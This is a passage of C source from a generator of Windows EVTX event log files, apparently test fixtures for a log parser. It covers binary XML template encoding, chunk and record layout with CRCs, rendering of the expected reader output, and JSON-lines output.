    for (size_t i = 0; i < n; i++) ((const char **)v->items)[i] = astrdup(g, items[i]);
    return v;
}

const evtxgen_val *evtxgen_v_intarray(evtxgen *g, uint8_t type, const int64_t *vals, size_t n)
{
    unsigned w = int_width(type);
    if (!(type & EVTXGEN_T_ARRAY) || !w) { fail(g, "type 0x%02x is not an integer array", type); return NULL; }
    buf b = {0};
    uint8_t t[8];
    for (size_t i = 0; i < n; i++) { w64(t, (uint64_t)vals[i]); buf_add(&b, t, w); }
    evtxgen_val *v = b.oom ? (fail(g, "out of memory"), NULL) : val_new(g, type, b.p, b.n, n);
    free(b.p);
    if (!v) return NULL;
    for (size_t i = 0; i < n; i++) {
        char r[32];
        int_render(type, (uint64_t)vals[i], r);
        ((const char **)v->items)[i] = astrdup(g, r);
    }
    return v;
}

/* ------------------------------------------------------------------ */
/* Nodes, templates, fragments.                                         */

static evtxgen_node *node_new(evtxgen *g, evtxgen_kind k)
{
    if (g->failed) return NULL;
    evtxgen_node *n = amalloc(g, sizeof *n);
    if (n) n->kind = k;
    return n;
}

static void append_child(evtxgen_node *to, evtxgen_node *n)
{
    if (to->last_child) to->last_child->next = n;
    else to->children = n;
    to->last_child = n;
}

evtxgen_node *evtxgen_elem(evtxgen *g, evtxgen_node *parent, const char *name)
{
    evtxgen_node *n = node_new(g, EVTXGEN_N_ELEM);
    if (!n) return NULL;
    n->name = astrdup(g, name);
    if (parent) {
        if (parent->kind != EVTXGEN_N_ELEM) { fail(g, "element \"%s\" under a non-element", name); return NULL; }
        append_child(parent, n);
    }
    return n;
}

evtxgen_node *evtxgen_attr(evtxgen *g, evtxgen_node *elem, const char *name)
{
    if (!elem || elem->kind != EVTXGEN_N_ELEM) { fail(g, "attribute \"%s\" needs an element", name); return NULL; }
    evtxgen_node *n = node_new(g, EVTXGEN_N_ATTR);
    if (!n) return NULL;
    n->name = astrdup(g, name);
    if (elem->last_attr) elem->last_attr->next = n;
    else elem->attrs = n;
    elem->last_attr = n;
    return n;
}

static evtxgen_node *content_new(evtxgen *g, evtxgen_node *to, evtxgen_kind k)
{
    if (!to) { fail(g, "content without a parent"); return NULL; }
    evtxgen_node *n = node_new(g, k);
    if (!n) return NULL;
    // Attribute values hold only value-like tokens.
    if (to->kind == EVTXGEN_N_ATTR && k != EVTXGEN_N_TEXT && k != EVTXGEN_N_SUBST && k != EVTXGEN_N_CHARREF &&
        k != EVTXGEN_N_ENTREF) {
        fail(g, "node kind %d cannot be in an attribute value", (int)k);
        return NULL;
    }
    append_child(to, n);
    return n;
}

void evtxgen_text(evtxgen *g, evtxgen_node *to, const char *utf8)
{
    evtxgen_node *n = content_new(g, to, EVTXGEN_N_TEXT);
    if (n) n->text = astrdup(g, utf8);
}

void evtxgen_subst(evtxgen *g, evtxgen_node *to, uint16_t index, uint8_t type, bool optional)
{
    evtxgen_node *n = content_new(g, to, EVTXGEN_N_SUBST);
    if (!n) return;
    n->index = index;
    n->type = type;
    n->optional = optional;
}

void evtxgen_cdata(evtxgen *g, evtxgen_node *to, const char *utf8)
{
    evtxgen_node *n = content_new(g, to, EVTXGEN_N_CDATA);
    if (n) n->text = astrdup(g, utf8);
}

void evtxgen_charref(evtxgen *g, evtxgen_node *to, uint16_t ch)
{
    evtxgen_node *n = content_new(g, to, EVTXGEN_N_CHARREF);
    if (n) n->charref = ch;
}

void evtxgen_entref(evtxgen *g, evtxgen_node *to, const char *entity)
{
    evtxgen_node *n = content_new(g, to, EVTXGEN_N_ENTREF);
    if (n) n->name = astrdup(g, entity);
}

void evtxgen_pi(evtxgen *g, evtxgen_node *to, const char *target, const char *data)
{
    evtxgen_node *n = content_new(g, to, EVTXGEN_N_PI);
    if (!n) return;
    n->name = astrdup(g, target);
    n->text = astrdup(g, data);
}

/* Hashes the tree's shape and content: equal trees get equal GUIDs, so a
 * template is defined once per chunk however often a caller rebuilds it. */
static void hash_str(sha256_ctx *c, const char *s)
{
    uint32_t n = s ? (uint32_t)strlen(s) : 0xFFFFFFFFu;
    sha_update(c, &n, sizeof n);
    if (s) sha_update(c, s, n);
}

static void hash_nodes(sha256_ctx *c, const evtxgen_node *n)
{
    for (; n; n = n->next) {
        uint8_t k[6] = {(uint8_t)n->kind, (uint8_t)n->charref, (uint8_t)(n->charref >> 8), (uint8_t)n->index,
                        (uint8_t)(n->index >> 8), n->type};
        sha_update(c, k, sizeof k);
        sha_update(c, n->optional ? "o" : "n", 1);
        hash_str(c, n->name);
        hash_str(c, n->text);
        sha_update(c, "[", 1);
        hash_nodes(c, n->attrs);
        sha_update(c, "|", 1);
        hash_nodes(c, n->children);
        sha_update(c, "]", 1);
    }
}

const evtxgen_tmpl *evtxgen_template(evtxgen *g, const evtxgen_node *root)
{
    if (g->failed) return NULL;
    if (!root || root->kind != EVTXGEN_N_ELEM) { fail(g, "a template needs a root element"); return NULL; }
    evtxgen_tmpl *t = amalloc(g, sizeof *t);
    if (!t) return NULL;
    sha256_ctx c;
    uint8_t d[32];
    sha_init(&c);
    sha_update(&c, "wmihunt-evtxgen-template", 24);
    hash_nodes(&c, root);
    sha_final(&c, d);
    memcpy(t->guid, d, 16);
    t->root = root;
    return t;
}

const evtxgen_frag *evtxgen_frag_tmpl(evtxgen *g, bool header, const evtxgen_tmpl *t,
                                      const evtxgen_val *const *values, size_t n)
{
    if (g->failed) return NULL;
    if (!t) { fail(g, "fragment without a template"); return NULL; }
    evtxgen_frag *f = amalloc(g, sizeof *f);
    const evtxgen_val **vs = amalloc(g, (n ? n : 1) * sizeof *vs);
    if (!f || !vs) return NULL;
    for (size_t i = 0; i < n; i++) {
        if (!values[i]) { fail(g, "value %zu of a template instance is missing", i); return NULL; }
        vs[i] = values[i];
    }
    f->header = header;
    f->tmpl = t;
    f->values = vs;
    f->nvalues = n;
    return f;
}

const evtxgen_frag *evtxgen_frag_with_pi(evtxgen *g, const evtxgen_frag *f, const char *target, const char *data)
{
    if (g->failed) return NULL;
    if (!f) { fail(g, "no fragment"); return NULL; }
    evtxgen_frag *c = amalloc(g, sizeof *c);
    if (!c) return NULL;
    *c = *f;
    c->header = true; /* the prologue follows the fragment header */
    c->pi_target = astrdup(g, target);
    c->pi_data = astrdup(g, data ? data : "");
    return c;
}

const evtxgen_frag *evtxgen_frag_elem(evtxgen *g, bool header, const evtxgen_node *root)
{
    if (g->failed) return NULL;
    if (!root || root->kind != EVTXGEN_N_ELEM) { fail(g, "a fragment needs a root element"); return NULL; }
    evtxgen_frag *f = amalloc(g, sizeof *f);
    if (!f) return NULL;
    f->header = header;
    f->root = root;
    return f;
}

/* ------------------------------------------------------------------ */
/* Chunk encoder. Writes straight into the open chunk; a record that    */
/* does not fit sets `overflow` and is rolled back (see snapshots).     */

static void e_bytes(evtxgen *g, const void *p, size_t n)
{
    chunk_state *c = &g->ck;
    if (c->overflow || n > EVTXGEN_CHUNK_SIZE - c->pos) { c->overflow = true; return; }
    if (n) memcpy(c->buf + c->pos, p, n);
    c->pos += (uint32_t)n;
}

static void e8(evtxgen *g, uint8_t v) { e_bytes(g, &v, 1); }
static void e16(evtxgen *g, uint16_t v) { uint8_t b[2]; w16(b, v); e_bytes(g, b, 2); }
static void e32(evtxgen *g, uint32_t v) { uint8_t b[4]; w32(b, v); e_bytes(g, b, 4); }
static void e64(evtxgen *g, uint64_t v) { uint8_t b[8]; w64(b, v); e_bytes(g, b, 8); }
static void p16(evtxgen *g, uint32_t at, uint16_t v) { if (!g->ck.overflow) w16(g->ck.buf + at, v); }
static void p32(evtxgen *g, uint32_t at, uint32_t v) { if (!g->ck.overflow) w32(g->ck.buf + at, v); }

/* UTF-16 of s into g->scratch; returns the unit count. */
static size_t to_utf16(evtxgen *g, const char *s)
{
    g->scratch.n = 0;
    size_t units = utf16_from_utf8(&g->scratch, s);
    if (g->scratch.oom) fail(g, "out of memory");
    return units;
}

/* u16 character count, then the characters (value text, CDATA, PI data). */
static void e_counted(evtxgen *g, const char *s)
{
    size_t units = to_utf16(g, s);
    if (units > 0xFFFF) { fail(g, "text of %zu characters is too long for one token", units); return; }
    e16(g, (uint16_t)units);
    e_bytes(g, g->scratch.p, 2 * units);
}

/* A name reference (notes §4): the offset of the name in the chunk; at
 * first use the name is stored right after the offset and becomes the
 * head of its bucket in the string table (hash % 64), linking to the
 * previous head, newest first as in every corpus chunk. */
static void e_name(evtxgen *g, const char *name)
{
    chunk_state *c = &g->ck;
    size_t units = to_utf16(g, name);
    uint32_t h = hash65599_units(g->scratch.p, units);
    unsigned b = (h & 0xFFFF) % NAME_BUCKETS;
    for (int i = c->name_head[b]; i >= 0; i = c->names[i].next)
        if (!strcmp(c->names[i].key, name)) { e32(g, c->names[i].off); return; }
    if (units > 0xFFFF) { fail(g, "name too long"); return; }
    uint32_t off = c->pos + 4;
    e32(g, off);
    e32(g, r32(c->buf + CH_STRINGS + 4 * b));
    e16(g, (uint16_t)h);
    e16(g, (uint16_t)units);
    e_bytes(g, g->scratch.p, 2 * units);
    e16(g, 0);
    if (c->overflow) return;
    if (c->nnames == c->capnames) {
        size_t cap = c->capnames ? 2 * c->capnames : 64;
        name_ent *p = realloc(c->names, cap * sizeof *p);
        if (!p) { fail(g, "out of memory"); return; }
        c->names = p;
        c->capnames = cap;
    }
    c->names[c->nnames] = (name_ent){name, off, c->name_head[b]};
    c->name_head[b] = (int)c->nnames++;
    w32(c->buf + CH_STRINGS + 4 * b, off);
}

static bool valueish(const evtxgen_node *n)
{
    return n && (n->kind == EVTXGEN_N_TEXT || n->kind == EVTXGEN_N_CDATA || n->kind == EVTXGEN_N_CHARREF ||
                 n->kind == EVTXGEN_N_ENTREF);
}

/* Dependency identifier: the index of the optional substitution that is
 * the element's own content, as Windows writes (EventID 3, Level 0,
 * Event 17 when the BinXml value sits directly in it), else 0xFFFF. */
static uint16_t dep_id(const evtxgen_node *n)
{
    for (const evtxgen_node *c = n->children; c; c = c->next)
        if (c->kind == EVTXGEN_N_SUBST && c->optional) return c->index;
    return 0xFFFF;
}

static void e_elem(evtxgen *g, const evtxgen_node *n, bool dep);

static void e_content(evtxgen *g, const evtxgen_node *n, bool dep)
{
    for (; n && !g->failed; n = n->next) {
        // 0x40 on a value-like token: more value data follows (notes §4;
        // e.g. 49 45 49 05 in an attribute of the CAPI2 corpus file).
        uint8_t more = valueish(n) && valueish(n->next) ? 0x40 : 0;
        switch (n->kind) {
        case EVTXGEN_N_ELEM: e_elem(g, n, dep); break;
        case EVTXGEN_N_TEXT: e8(g, 0x05 | more); e8(g, 0x01); e_counted(g, n->text); break;
        case EVTXGEN_N_CDATA: e8(g, 0x07 | more); e_counted(g, n->text); break;
        case EVTXGEN_N_CHARREF: e8(g, 0x08 | more); e16(g, n->charref); break;
        case EVTXGEN_N_ENTREF: e8(g, 0x09 | more); e_name(g, n->name); break;
        case EVTXGEN_N_PI: e8(g, 0x0a); e_name(g, n->name); e8(g, 0x0b); e_counted(g, n->text); break;
        case EVTXGEN_N_SUBST:
            if (!dep) { fail(g, "substitution outside a template definition"); return; }
            e8(g, n->optional ? 0x0e : 0x0d);
            e16(g, n->index);
            e8(g, n->type);
            break;
        case EVTXGEN_N_ATTR: fail(g, "attribute in content"); return;
        }
    }
}

/* Element (notes §4): token, dependency id only inside template
 * definitions, data size (bytes after it up to and including the end
 * token), name, attribute list size (bytes of the attributes). */
static void e_elem(evtxgen *g, const evtxgen_node *n, bool dep)
{
    chunk_state *c = &g->ck;
    e8(g, n->attrs ? 0x41 : 0x01);
    if (dep) e16(g, dep_id(n));
    uint32_t size_at = c->pos;
    e32(g, 0);
    e_name(g, n->name);
    if (n->attrs) {
        uint32_t list_at = c->pos;
        e32(g, 0);
        for (const evtxgen_node *a = n->attrs; a; a = a->next) {
            e8(g, a->next ? 0x46 : 0x06); /* 0x40: another attribute follows */
            e_name(g, a->name);
            e_content(g, a->children, dep);
        }
        p32(g, list_at, c->pos - list_at - 4);
    }
    if (!n->children) {
        e8(g, 0x03);
    } else {
        e8(g, 0x02);
        e_content(g, n->children, dep);
        e8(g, 0x04);
    }
    p32(g, size_at, c->pos - size_at - 4);
}

/* Template table bucket: the 65599 hash over the GUID's eight u16 words,
 * modulo 32. Matches 1,545 of 1,600 template entries of the corpus; all
 * misses are in format 3.2 chunks, whose bucket function we do not know
 * (readers use the offsets in the records, notes §2). */
static unsigned tmpl_bucket(const uint8_t guid[16]) { return hash65599_units(guid, 8) % TMPL_BUCKETS; }

static void e_frag(evtxgen *g, const evtxgen_frag *f, rec_info *ri);

/* Template instance (notes §5): 0c 01, template id, definition offset;
 * the definition inline at first use in the chunk, then the value
 * descriptors and the values. BinXml values are encoded in place. */
static void e_instance(evtxgen *g, const evtxgen_frag *f, rec_info *ri)
{
    chunk_state *c = &g->ck;
    const evtxgen_tmpl *t = f->tmpl;
    uint32_t token_at = c->pos;
    e8(g, 0x0c);
    e8(g, 0x01);
    e32(g, r32(t->guid));
    uint32_t field_at = c->pos;
    uint32_t def = 0;
    for (size_t i = 0; i < c->ntmpls; i++)
        if (!memcmp(c->tmpls[i].guid, t->guid, 16)) { def = c->tmpls[i].off; break; }
    bool inl = def == 0;
    if (!inl) {
        e32(g, def);
    } else {
        unsigned b = tmpl_bucket(t->guid);
        def = c->pos + 4;
        e32(g, def);
        e32(g, r32(c->buf + CH_TEMPLATES + 4 * b)); /* next definition in the bucket */
        e_bytes(g, t->guid, 16);
        uint32_t size_at = c->pos;
        e32(g, 0);
        static const uint8_t fh[4] = {0x0f, 0x01, 0x01, 0x00};
        e_bytes(g, fh, 4);
        e_elem(g, t->root, true);
        e8(g, 0x00);
        p32(g, size_at, c->pos - size_at - 4);
        if (!c->overflow && !g->failed) {
            if (c->ntmpls == c->captmpls) {
                size_t cap = c->captmpls ? 2 * c->captmpls : 16;
                tmpl_ent *p = realloc(c->tmpls, cap * sizeof *p);
                if (!p) { fail(g, "out of memory"); return; }
                c->tmpls = p;
                c->captmpls = cap;
            }
            c->tmpls[c->ntmpls++] = (tmpl_ent){t->guid, def};
            w32(c->buf + CH_TEMPLATES + 4 * b, def);
        }
    }
    if (ri) {
        ri->tmpl_token = token_at;
        ri->tmpl_field = field_at;
        ri->tmpl_inline = inl;
    }
    e32(g, (uint32_t)f->nvalues);
    uint32_t desc_at = c->pos;
    for (size_t i = 0; i < f->nvalues; i++) {
        e16(g, (uint16_t)f->values[i]->size);
        e8(g, f->values[i]->type);
        e8(g, 0);
    }
    for (size_t i = 0; i < f->nvalues && !g->failed; i++) {
        const evtxgen_val *v = f->values[i];
        if (v->type == EVTXGEN_T_BINXML) {
            uint32_t start = c->pos;
            e_frag(g, v->binxml, NULL);
            if (c->pos - start > 0xFFFF) { fail(g, "BinXml value over 65535 bytes"); return; }
            p16(g, desc_at + 4 * (uint32_t)i, (uint16_t)(c->pos - start));
        } else {
            e_bytes(g, v->bytes, v->size);
        }
    }
}

static void e_frag(evtxgen *g, const evtxgen_frag *f, rec_info *ri)
{
    static const uint8_t fh[4] = {0x0f, 0x01, 0x01, 0x00};
    if (f->header) e_bytes(g, fh, 4);
    if (f->pi_target) {
        e8(g, 0x0a);
        e_name(g, f->pi_target);
        e8(g, 0x0b);
        e_counted(g, f->pi_data ? f->pi_data : "");
    }
    if (f->tmpl) e_instance(g, f, ri);
    else e_elem(g, f->root, false); /* direct elements carry no dependency id */
    e8(g, 0x00);
}

typedef struct snap {
    uint32_t pos;
    size_t nnames, ntmpls;
    int name_head[NAME_BUCKETS];
    uint8_t tables[CH_RECORDS - CH_STRINGS];
} snap;

static void snap_take(const chunk_state *c, snap *s)
{
    s->pos = c->pos;
    s->nnames = c->nnames;
    s->ntmpls = c->ntmpls;
    memcpy(s->name_head, c->name_head, sizeof s->name_head);
    memcpy(s->tables, c->buf + CH_STRINGS, sizeof s->tables);
}

static void snap_restore(chunk_state *c, const snap *s)
{
    memset(c->buf + s->pos, 0, EVTXGEN_CHUNK_SIZE - s->pos);
    c->pos = s->pos;
    c->nnames = s->nnames;
    c->ntmpls = s->ntmpls;
    memcpy(c->name_head, s->name_head, sizeof s->name_head);
    memcpy(c->buf + CH_STRINGS, s->tables, sizeof s->tables);
    c->overflow = false;
}

/* Record (notes §3): "**\0\0", size, id, written FILETIME, binary XML,
 * zero padding to a multiple of 8 (all corpus records are), size copy.
 * Returns 0, or 1 when it does not fit in this chunk. */
static int encode_record(evtxgen *g, const evtxgen_frag *f, uint64_t id, uint64_t written, rec_info *ri)
{
    chunk_state *c = &g->ck;
    snap s;
    snap_take(c, &s);
    uint32_t start = c->pos;
    memset(ri, 0, sizeof *ri);
    e_bytes(g, "**\0\0", 4);
    e32(g, 0);
    e64(g, id);
    e64(g, written);
    e_frag(g, f, ri);
    while ((c->pos - start + 4) % 8 && !c->overflow) e8(g, 0);
    uint32_t size = c->pos - start + 4;
    e32(g, size);
    p32(g, start + 4, size);
    if (g->failed) return -1;
    if (c->overflow) {
        snap_restore(c, &s);
        return 1;
    }
    if (c->nrec == 0) c->first_id = id;
    c->last_id = id;
    c->last_rec = start;
    c->nrec++;
    ri->chunk = g->nchunks;
    ri->off = start;
    ri->size = size;
    return 0;
}

static void chunk_close(evtxgen *g)
{
    chunk_state *c = &g->ck;
    if (!g->ck_open) return;
    uint8_t *b = c->buf;
    memcpy(b, "ElfChnk", 8);
    w64(b + CH_FIRST_NUM, c->first_id);
    w64(b + CH_LAST_NUM, c->last_id);
    w64(b + CH_FIRST_ID, c->first_id);
    w64(b + CH_LAST_ID, c->last_id);
    w32(b + CH_HEADER_SIZE, 128);
    w32(b + CH_LAST_REC, c->last_rec);
    w32(b + CH_FREE, c->pos);
    w32(b + CH_DATA_CRC, evtxgen_crc32(b + CH_RECORDS, c->pos - CH_RECORDS));
    w32(b + CH_FLAGS, CHUNK_FLAGS_WINDOWS);
    w32(b + CH_CRC, chunk_header_crc(b));
    buf_add(&g->img, b, EVTXGEN_CHUNK_SIZE);
    if (g->img.oom) fail(g, "out of memory");
    g->nchunks++;
    chunk_reset(c);
    g->ck_open = false;
}

/* ------------------------------------------------------------------ */
/* Rendering the model: what a correct reader must show (notes §5-§6,   */
/* docs/output.md). Works on the model, never on the written bytes.     */

static const char *entity_text(const char *name)
{
    static const struct { const char *n, *t; } ents[] = {
        {"lt", "<"}, {"gt", ">"}, {"amp", "&"}, {"quot", "\""}, {"apos", "'"}};
    for (size_t i = 0; i < sizeof ents / sizeof ents[0]; i++)
        if (!strcmp(ents[i].n, name)) return ents[i].t;
    return NULL;
}

/* Appends one value-like node's text to t. A NULL value in an optional
 * substitution sets *drop (the element or attribute disappears); an
 * array value is returned in *arr (the element repeats per item). */
static void r_value(evtxgen *g, const evtxgen_node *n, const evtxgen_val *const *vals, size_t nv, buf *t,
                    bool *drop, const evtxgen_val **arr)
{
    switch (n->kind) {
    case EVTXGEN_N_TEXT: case EVTXGEN_N_CDATA: buf_str(t, n->text); break;
    case EVTXGEN_N_CHARREF: utf8_put(t, n->charref); break;
    case EVTXGEN_N_ENTREF: {
        const char *e = entity_text(n->name);
        if (e) buf_str(t, e);
        else buf_fmt(t, "&%s;", n->name);
        break;
    }
    case EVTXGEN_N_SUBST: {
        if (n->index >= nv) { fail(g, "substitution %u has no value (%zu given)", n->index, nv); return; }
        const evtxgen_val *v = vals[n->index];
        if (v->type == EVTXGEN_T_NULL) {
            if (n->optional) *drop = true;
        } else if (v->type & EVTXGEN_T_ARRAY) {
            if (!arr) { fail(g, "array value in an attribute"); return; }
            *arr = v;
        } else if (v->type == EVTXGEN_T_BINXML) {
            fail(g, "BinXml value in an attribute");
        } else {
            buf_str(t, v->items[0]);
        }
        break;
    }
    default: break; /* PI: not part of any value */
    }
}

static rnode *rnode_new(evtxgen *g, const char *name)
{
    rnode *r = amalloc(g, sizeof *r);
    if (r) r->name = name;
    return r;
}

static void rnode_add(rnode *parent, rnode *r)
{
    if (parent->lastkid) parent->lastkid->next = r;
    else parent->kids = r;
    parent->lastkid = r;
}

static void r_frag(evtxgen *g, const evtxgen_frag *f, rnode *parent, int depth);

static void r_elem(evtxgen *g, const evtxgen_node *n, const evtxgen_val *const *vals, size_t nv, rnode *parent,
                   int depth)
{
    if (depth > 64) { fail(g, "model nested too deep"); return; }
    rnode *r = rnode_new(g, n->name);
    if (!r) return;
    for (const evtxgen_node *a = n->attrs; a; a = a->next) {
        buf t = {0};
        bool drop = false;
        for (const evtxgen_node *c = a->children; c; c = c->next) r_value(g, c, vals, nv, &t, &drop, NULL);
        if (!drop) {
            rattr *ra = amalloc(g, sizeof *ra);
            if (ra) {
                ra->name = a->name;
                ra->value = abufstr(g, &t);
                if (r->lastattr) r->lastattr->next = ra;
                else r->attrs = ra;
                r->lastattr = ra;
            }
        }
        free(t.p);
    }
    buf t = {0};
    bool drop = false;
    const evtxgen_val *arr = NULL;
    for (const evtxgen_node *c = n->children; c && !g->failed; c = c->next) {
        if (c->kind == EVTXGEN_N_ELEM) {
            r_elem(g, c, vals, nv, r, depth + 1);
        } else if (c->kind == EVTXGEN_N_SUBST && c->index < nv && vals[c->index]->type == EVTXGEN_T_BINXML) {
            r_frag(g, vals[c->index]->binxml, r, depth + 1);
        } else {
            r_value(g, c, vals, nv, &t, &drop, &arr);
        }
    }
    if (!drop && arr) {
        // One element per item; an empty array still gives one (notes §6).
        size_t k = arr->nitems ? arr->nitems : 1;
        for (size_t i = 0; i < k; i++) {
            rnode *copy = i ? rnode_new(g, n->name) : r;
            if (!copy) break;
            copy->attrs = r->attrs;
            copy->lastattr = r->lastattr;
            copy->text = arr->nitems ? arr->items[i] : "";
            rnode_add(parent, copy);
        }
    } else if (!drop) {
        r->text = abufstr(g, &t);
        rnode_add(parent, r);
    }
    free(t.p);
}

static void r_frag(evtxgen *g, const evtxgen_frag *f, rnode *parent, int depth)
{
    if (f->tmpl) r_elem(g, f->tmpl->root, f->values, f->nvalues, parent, depth);
    else r_elem(g, f->root, NULL, 0, parent, depth);
}

static const rnode *r_child(const rnode *r, const char *name)
{
    for (const rnode *k = r ? r->kids : NULL; k; k = k->next)
        if (!strcmp(k->name, name)) return k;
    return NULL;
}

static const char *r_attr(const rnode *r, const char *name)
{
    for (const rattr *a = r ? r->attrs : NULL; a; a = a->next)
        if (!strcmp(a->name, name)) return a->value;
    return NULL;
}

static const char *r_text(const rnode *r) { return r ? r->text : NULL; }

/* UserData leaves as "A/B/C" paths in document order. */
static void ud_flatten(evtxgen *g, const rnode *r, const char *prefix, evtxgen_kv **kv, size_t *n, size_t *cap)
{
    buf path = {0};
    if (prefix) { buf_str(&path, prefix); buf_str(&path, "/"); }
    buf_str(&path, r->name);
    if (!r->kids) {
        if (*n == *cap) {
            size_t nc = *cap ? 2 * *cap : 8;
            evtxgen_kv *p = amalloc(g, nc * sizeof *p);
            if (!p) { free(path.p); return; }
            if (*n) memcpy(p, *kv, *n * sizeof *p);
            *kv = p;
            *cap = nc;
        }
        (*kv)[*n].name = abufstr(g, &path);
        (*kv)[(*n)++].value = r->text ? r->text : "";
    } else {
        for (const rnode *k = r->kids; k; k = k->next) ud_flatten(g, k, (const char *)path.p, kv, n, cap);
    }
    free(path.p);
}

static int expect_from_model(evtxgen *g, const evtxgen_frag *f, evtxgen_expect *e, const rnode **ud)
{
    rnode top = {0};
    r_frag(g, f, &top, 0);
    if (g->failed) return -1;
    const rnode *ev = top.kids;
    const rnode *sys = r_child(ev, "System");
    e->provider = r_attr(r_child(sys, "Provider"), "Name");
    e->event_id = r_text(r_child(sys, "EventID"));
    e->level = r_text(r_child(sys, "Level"));
    e->time_created = r_attr(r_child(sys, "TimeCreated"), "SystemTime");
    e->event_record_id = r_text(r_child(sys, "EventRecordID"));
    e->channel = r_text(r_child(sys, "Channel"));
    e->computer = r_text(r_child(sys, "Computer"));
    e->user_sid = r_attr(r_child(sys, "Security"), "UserID");
    const rnode *ed = r_child(ev, "EventData");
    if (ed) {
        size_t n = 0;
        for (const rnode *k = ed->kids; k; k = k->next) n += !strcmp(k->name, "Data");
        evtxgen_kv *kv = amalloc(g, (n ? n : 1) * sizeof *kv);
        if (!kv) return -1;
        n = 0;
        for (const rnode *k = ed->kids; k; k = k->next) {
            if (strcmp(k->name, "Data")) continue; /* e.g. <Binary> of classic events */
            kv[n].name = r_attr(k, "Name");
            kv[n++].value = k->text ? k->text : "";
        }
        e->has_event_data = true;
        e->event_data = kv;
        e->n_event_data = n;
    }
    const rnode *udn = r_child(ev, "UserData");
    if (udn) {
        evtxgen_kv *kv = NULL;
        size_t n = 0, cap = 0;
        for (const rnode *k = udn->kids; k; k = k->next) ud_flatten(g, k, NULL, &kv, &n, &cap);
        e->has_user_data = true;
        e->user_data = kv;
        e->n_user_data = n;
        *ud = udn;
    }
    e->templateless = f->tmpl == NULL;
    return g->failed ? -1 : 0;
}

/* ------------------------------------------------------------------ */
/* Records.                                                             */

uint64_t evtxgen_next_id(const evtxgen *g) { return g->next_id; }

uint64_t evtxgen_add_frag(evtxgen *g, const evtxgen_frag *f, uint64_t written)
{
    if (g->failed) return 0;
    if (g->finished) { fail(g, "records added after evtxgen_finish"); return 0; }
    if (!f) { fail(g, "no fragment"); return 0; }
    if (g->nexp == g->capexp) {
        size_t cap = g->capexp ? 2 * g->capexp : 64;
        evtxgen_expect *e = realloc(g->exp, cap * sizeof *e);
        if (e) g->exp = e;
        const rnode **u = realloc(g->exp_ud, cap * sizeof *u);
        if (u) g->exp_ud = u;
        rec_info *r = realloc(g->recs, cap * sizeof *r);
        if (r) g->recs = r;
        if (!e || !u || !r) { fail(g, "out of memory"); return 0; }
        g->capexp = cap;
    }
    evtxgen_expect *e = &g->exp[g->nexp];
    memset(e, 0, sizeof *e);
    g->exp_ud[g->nexp] = NULL;
    if (expect_from_model(g, f, e, &g->exp_ud[g->nexp])) return 0;
    uint64_t id = g->next_id;
    if (!written) written = default_time(g, g->nrecords);
    rec_info *ri = &g->recs[g->nexp];
    for (int attempt = 0; attempt < 2; attempt++) {
        if (g->ck_open && g->o.records_per_chunk && g->ck.nrec >= g->o.records_per_chunk) chunk_close(g);
        g->ck_open = true;
        int r = encode_record(g, f, id, written, ri);
        if (r < 0) return 0;
        if (r == 0) break;
        if (g->ck.nrec == 0) { fail(g, "record %llu does not fit in an empty chunk", (unsigned long long)id); return 0; }
        chunk_close(g);
    }
    e->status = EVTXGEN_LIVE;
    e->chunk = ri->chunk;
    e->offset = EVTXGEN_HEADER_SIZE + (uint64_t)ri->chunk * EVTXGEN_CHUNK_SIZE + ri->off;
    e->size = ri->size;
    e->record_id = id;
    g->nexp++;
    g->nrecords++;
    g->next_id++;
    return id;
}

static void file_header_crc(uint8_t *h) { w32(h + FH_CRC, evtxgen_crc32(h, 120)); }

int evtxgen_finish(evtxgen *g)
{
    if (g->failed) return -1;
    if (g->finished) return 0;
    if (g->ck_open && g->ck.nrec) chunk_close(g);
    if (g->failed) return -1;
    uint8_t *h = g->img.p;
    memcpy(h, "ElfFile", 8);
    w64(h + FH_FIRST_CHUNK, 0);
    w64(h + FH_LAST_CHUNK, g->nchunks ? g->nchunks - 1 : 0);
    w64(h + FH_NEXT_RECORD, g->next_id);
    w32(h + FH_HEADER_SIZE, 128);
    w16(h + FH_MINOR, g->o.minor_version);
    w16(h + FH_MAJOR, 3);
    w16(h + FH_BLOCK_SIZE, EVTXGEN_HEADER_SIZE);
    w16(h + FH_CHUNK_COUNT, (uint16_t)g->nchunks);
    w32(h + FH_FLAGS, 0);
    file_header_crc(h);
    g->finished = true;
    return 0;
}

const uint8_t *evtxgen_image(const evtxgen *g, size_t *size)
{
    *size = g->img.n;
    return g->img.p;
}

int evtxgen_write(const evtxgen *g, const char *path)
{
    if (g->failed || !g->finished) return -1;
    FILE *f = fopen(path, "wb");
    if (!f) return -1;
    size_t n = fwrite(g->img.p, 1, g->img.n, f);
    int rc = fclose(f);
    return n == g->img.n && rc == 0 ? 0 : -1;
}

size_t evtxgen_expect_count(const evtxgen *g) { return g->nexp; }

const evtxgen_expect *evtxgen_expect_at(const evtxgen *g, size_t i) { return i < g->nexp ? &g->exp[i] : NULL; }

/* ------------------------------------------------------------------ */
/* JSON lines (docs/output.md field names).                             */

static void json_str(FILE *f, const char *s)
{
    fputc('"', f);
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        switch (*p) {
        case '"': fputs("\\\"", f); break;
        case '\\': fputs("\\\\", f); break;
        case '\n': fputs("\\n", f); break;
        case '\r': fputs("\\r", f); break;
        case '\t': fputs("\\t", f); break;
        default:
            if (*p < 0x20 || *p == 0x7f) fprintf(f, "\\u%04x", *p);
            else fputc(*p, f);
        }
    }
    fputc('"', f);
}

static bool all_digits(const char *s)
{
    if (!s || !*s) return false;
    for (; *s; s++)
        if (*s < '0' || *s > '9') return false;
    return true;
}

/* Digits as a JSON number, anything else as a string. */
static void json_num_or_str(FILE *f, const char *s)
{
    if (all_digits(s)) fputs(s, f);
    else json_str(f, s);
}

static void json_ud(FILE *f, const rnode *r);

static void json_ud_obj(FILE *f, const rnode *r)
{
    // Children keyed by name; a repeated name becomes an array (output.md).
    fputc('{', f);
    bool first = true;
    for (const rnode *k = r->kids; k; k = k->next) {
        bool seen = false;
        for (const rnode *p = r->kids; p != k; p = p->next)
            if (!strcmp(p->name, k->name)) seen = true;
        if (seen) continue;
        size_t count = 0;
        for (const rnode *p = k; p; p = p->next) count += !strcmp(p->name, k->name);
        if (!first) fputc(',', f);
        first = false;
        json_str(f, k->name);
        fputc(':', f);
        if (count == 1) {
            json_ud(f, k);
        } else {
            fputc('[', f);
            bool f2 = true;
            for (const rnode *p = k; p; p = p->next) {
                if (strcmp(p->name, k->name)) continue;
                if (!f2) fputc(',', f);
                f2 = false;
                json_ud(f, p);
            }
            fputc(']', f);
        }
    }
    fputc('}', f);
}

